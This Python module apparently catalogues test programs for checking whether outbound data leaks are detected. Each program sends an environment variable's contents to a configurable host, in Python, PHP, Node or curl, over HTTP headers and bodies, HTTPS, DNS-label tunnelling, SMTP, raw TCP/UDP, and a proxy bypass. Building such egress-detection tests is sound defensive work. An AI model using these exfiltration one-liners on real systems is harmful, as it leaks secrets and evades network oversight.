"""Small programs that send what they find in `ISI` to `HOST`: by each runtime that is here, by each way there is."""

import shutil
import sys
from typing import NamedTuple

_PY = "import base64, gzip, json, os, socket, smtplib, urllib.parse, urllib.request\nisi, host = os.environ['ISI'], os.environ['HOST']\n"
_ASK = "def ask(url, data=None, **heads):\n urllib.request.urlopen(urllib.request.Request(url, data, heads), timeout=5).read()\n"
_PHP = "$isi = getenv('ISI'); $host = getenv('HOST');"
_NODE = "const isi = process.env.ISI, host = process.env.HOST;"


class Program(NamedTuple):
    """One program, and where what it sends has to be seen."""

    command: tuple[str, ...]
    protocol: str
    part: str


def _python(code: str, protocol: str, part: str) -> Program:
    return Program((sys.executable, "-I", "-c", _PY + _ASK + code), protocol, part)


def _php(code: str, protocol: str, part: str) -> Program:
    return Program(("php", "-r", _PHP + code), protocol, part)


def _node(code: str, protocol: str, part: str) -> Program:
    return Program(("node", "-e", _NODE + code), protocol, part)


def _shell(code: str, protocol: str, part: str) -> Program:
    return Program(("sh", "-c", code), protocol, part)


PROGRAMS: dict[str, Program] = {
    "python-query": _python("ask(f'http://{host}/a?' + urllib.parse.urlencode({'q': isi}))", "http", "baris"),
    "python-form": _python("ask(f'http://{host}/a', urllib.parse.urlencode({'q': isi}).encode())", "http", "badan"),
    "python-gzip": _python(
        "ask(f'http://{host}/a', gzip.compress(json.dumps({'a': [isi]}).encode()), **{'Content-Encoding': 'gzip'})",
        "http", "badan",
    ),
    "python-multipart": _python(
        "ask(f'http://{host}/a', ('--x\\r\\nContent-Disposition: form-data; name=\"a\"\\r\\n\\r\\n' + isi"
        " + '\\r\\n--x--\\r\\n').encode(), **{'Content-Type': 'multipart/form-data; boundary=x'})",
        "http", "badan",
    ),
    "python-header": _python("ask(f'http://{host}/a', **{'X-Alamat': base64.b64encode(isi.encode()).decode()})", "http", "kepala"),
    "python-https": _python("ask(f'https://{host}/a', json.dumps({'a': isi}).encode())", "https", "badan"),
    "python-other-port": _python("ask(f'http://{host}:8123/a', isi.encode())", "http", "badan"),
    "python-dns-hex": _python(
        "d = isi.encode().hex(); socket.gethostbyname('.'.join(d[i:i + 60] for i in range(0, len(d), 60)) + '.' + host)",
        "dns", "nama",
    ),
    "python-dns-base32": _python(
        "d = base64.b32encode(isi.encode()).decode().rstrip('=').lower()\n"
        "socket.gethostbyname('.'.join(d[i:i + 50] for i in range(0, len(d), 50)) + '.' + host)",
        "dns", "nama",
    ),
    "python-dns-names": _python(
        "d = isi.encode().hex()\nfor i in range(0, len(d), 30): socket.gethostbyname(d[i:i + 30] + '.' + host)",
        "dns", "nama",
    ),
    "python-dns-words": _python("socket.gethostbyname(isi.replace(' ', '-') + '.' + host)", "dns", "nama"),
    "python-mail": _python(
        "s = smtplib.SMTP(host, 25, timeout=5); s.sendmail('a@a.example', ['b@b.example'], 'Subject: x\\r\\n\\r\\n' + isi); s.quit()",
        "smtp", "surat",
    ),
    "python-tcp": _python("s = socket.create_connection((host, 4444), 5); s.sendall(isi.encode()); s.close()", "tcp", "data"),
    "python-udp": _python("s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(isi.encode(), (host, 514))", "udp", "data"),
    "php-stream": _php("file_get_contents(\"http://$host/?\" . http_build_query(['q' => $isi]));", "http", "baris"),
    "php-https": _php("file_get_contents(\"https://$host/\", false, stream_context_create(['http' => ['method' => 'POST',"
        " 'header' => 'Content-Type: text/plain', 'content' => $isi]]));", "https", "badan"),
    "php-socket": _php("$s = fsockopen($host, 9999); fwrite($s, $isi); fclose($s);", "tcp", "data"),
    "php-dns": _php("gethostbyname(substr(bin2hex($isi), 0, 60) . '.' . substr(bin2hex($isi), 60) . \".$host\");", "dns", "nama"),
    "node-fetch": _node("fetch(`https://${host}/`, {method: 'POST', body: JSON.stringify({isi})});", "https", "badan"),
    "node-udp": _node("const s = require('dgram').createSocket('udp4'); s.send(isi, 5140, host, () => s.close());", "udp", "data"),
    "curl": _shell('curl -s -G --data-urlencode "q=$ISI" "http://$HOST/a"', "http", "baris"),
    "curl-https": _shell('curl -s --data-binary "$ISI" "https://$HOST/a"', "https", "badan"),
    "without-proxy": _shell('curl -s --noproxy "*" --data-binary "$ISI" "http://$HOST/a"', "http", "badan"),
}  # fmt: skip


def missing(program: Program) -> str:
    """Return what a program needs that is not installed here; empty: nothing."""
    wanted = "curl" if program.command[0] == "sh" else program.command[0]
    return "" if shutil.which(wanted) else wanted
